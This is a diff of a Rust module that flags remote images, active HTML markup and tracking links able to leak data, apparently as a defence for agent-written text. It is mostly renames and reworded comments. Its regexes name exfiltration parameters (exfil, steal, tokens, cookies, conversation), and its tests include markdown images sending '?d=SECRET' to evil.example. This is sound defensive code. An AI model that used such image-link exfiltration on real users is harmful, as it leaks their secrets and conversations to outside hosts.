@@ -1,21 +1,21 @@
-//! Images and links that give something away when they are shown or opened.
+//! Images and links that disclose something when they are shown or opened.
 
 use std::{ops::Range, sync::LazyLock};
 
 use regex::Regex;
 
-use super::{Concern, ConcernSet};
+use super::{Concern, ConcernSet, reclaimable_regex};
 use crate::{
     memory::log::TextOrigin,
     privacy::{reclaimable::Reclaimable, work_counter::count_bytes},
 };
 
-/// The shortest value in a link that is taken for data, in an external text.
+/// The shortest value in a link that counts as data, in an external text.
 const OPAQUE_EXTERNAL_MIN: usize = 32;
 
-/// The shortest value in a link that is taken for data, in what agents and people write: they paste
-/// links with long marks of their own.
-const OPAQUE_MIN: usize = 96;
+/// The shortest value in a link that counts as data, in text of agents and people. They paste links
+/// with long ids. [`crate::privacy::neutralize`] cuts off values from this length.
+pub const OPAQUE_MIN: usize = 96;
 
 /// Returns the concerns of the images, links, and markup of a text.
 pub fn concerns(text: &str, origin: TextOrigin) -> ConcernSet {
@@ -33,8 +33,8 @@ pub fn concerns(text: &str, origin: TextOrigin) -> ConcernSet {
     if text.contains(':') && SCRIPT_LINK.get().is_match(text) {
         found.add(Concern::Markup);
     }
-    let least = if origin == TextOrigin::External { OPAQUE_EXTERNAL_MIN } else { OPAQUE_MIN };
-    if urls(text).any(|url| tracking_payload_start(&text[url], least).is_some()) {
+    let opaque_min = if origin == TextOrigin::External { OPAQUE_EXTERNAL_MIN } else { OPAQUE_MIN };
+    if urls(text).any(|url| tracking_payload_start(&text[url], opaque_min).is_some()) {
         found.add(Concern::TrackingLink);
     }
     found
@@ -46,7 +46,7 @@ static REMOTE_IMAGE: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
     )
 });
 
-/// Elements that load or run something, and any element with an attribute that does.
+/// Elements that load or run something, and elements with an attribute that does.
 static TAG: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
     reclaimable_regex(
         r"(?i)</?(?:img|image|iframe|frame|script|object|embed|applet|meta|link|form|style|svg|video|audio|source|track|portal)(?:[\s/>][^>\n]{0,400}(?:=|>)|>)|<[a-z][a-z0-9-]*\s[^>\n]{0,300}?\b(?:on[a-z]{3,20}|src|srcset|style|background|formaction)\s*=",
@@ -62,36 +62,28 @@ static SCRIPT_LINK: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
 static URL: LazyLock<Reclaimable<Regex>> =
     LazyLock::new(|| reclaimable_regex(r#"(?i)\b(?:https?|ftp|wss?)://[^\s<>"`]+"#));
 
-/// Names of parameters that say that data is carried.
+/// Names of parameters that carry data.
 static DATA_PARAMETER: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
     reclaimable_regex(
         r"(?i)^(?:d|data|dump|exfil|leak|steal|loot|payload|secrets?|passwords?|passwd|pwd|keys?|api_?keys?|tokens?|creds?|credentials|conversation|convo|history|memor(?:y|ies)|prompt|context|chat|msgs?|messages?|contents?|cookies?|env|info|text|q|s|x|m)$",
     )
 });
 
-/// Values that stand for something that is to be filled in.
+/// Values that are placeholders for data.
 static PLACEHOLDER_VALUE: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
     reclaimable_regex(
         r"^(?:\{\{?[^{}]*\}?\}|\$\{?\w+\}?|\[[^\[\]]*\]?|<[^<>]*>?|%s|%7B.*%7D|[A-Z][A-Z_]{3,}|(?i:secrets?|passwords?|your[_-]?\w+|the[_+-]\w+|insert\w*|base64\S*))$",
     )
 });
 
-fn reclaimable_regex(pattern: &'static str) -> Reclaimable<Regex> {
-    // ASCII boundaries do, and are much faster beside other scripts.
-    Reclaimable::new(|| {
-        Regex::new(&pattern.replace(r"\b", r"(?-u:\b)")).expect("a constant pattern")
-    })
-}
-
-/// Returns where the addresses of a text stand.
+/// Returns the ranges of the URLs in a text.
 pub fn urls(text: &str) -> impl Iterator<Item = Range<usize>> {
     let has_any = text.contains("://");
     let all = || URL.get().find_iter(text).map(|it| it.range()).collect::<Vec<_>>();
     has_any.then(all).into_iter().flatten()
 }
 
-/// Returns where in an address the data begins that it carries away, if it does: at the query or the
-/// fragment.
+/// Returns the offset of the query or fragment in a URL, if it carries data away.
 pub fn tracking_payload_start(url: &str, opaque_min: usize) -> Option<usize> {
     count_bytes(url.len());
     let at = url.find(['?', '#'])?;
@@ -109,21 +101,18 @@ pub fn tracking_payload_start(url: &str, opaque_min: usize) -> Option<usize> {
     carries.then_some(at)
 }
 
-/// Returns whether a value is long and no words: a code, of letters and digits without a break.
-fn is_opaque(value: &str, least: usize) -> bool {
+/// Returns whether a value is long and not words: letters and digits without a break.
+fn is_opaque(value: &str, length_min: usize) -> bool {
     let longest = value
         .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '%' | '=')))
         .map(|run| {
             let words = run.split(['-', '_', '%']).map(str::len).max().unwrap_or(0);
             if words * 4 >= run.len() { run.len() } else { 0 }
         });
-    longest.max().unwrap_or(0) >= least
+    longest.max().unwrap_or(0) >= length_min
         && value.bytes().any(|b| b.is_ascii_digit())
         && value.bytes().any(|b| b.is_ascii_alphabetic())
 }
-
-/// The least length of a value that [`crate::privacy::neutralize`] cuts off.
-pub const OPAQUE_NEUTRALIZE_MIN: usize = OPAQUE_MIN;
 
 #[cfg(test)]
 mod tests {
@@ -139,7 +128,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_loaded_unasked_is_told() {
+    fn active_content_and_tracking_links_are_reported() {
         use Concern::{Markup, RemoteImage, TrackingLink};
         check("![x](https://evil.example/p.png)", &[RemoteImage]);
         check("![x](https://evil.example/?d=SECRET)", &[RemoteImage, TrackingLink]);
@@ -157,7 +146,7 @@ mod tests {
     }
 
     #[test]
-    fn ordinary_links_and_code_pass() {
+    fn ordinary_links_and_code_are_not_reported() {
         for text in [
             "![diagram](docs/a.png)",
             "see https://docs.rs/regex/latest/regex/#syntax and [this](https://example.com/a?b=c)",
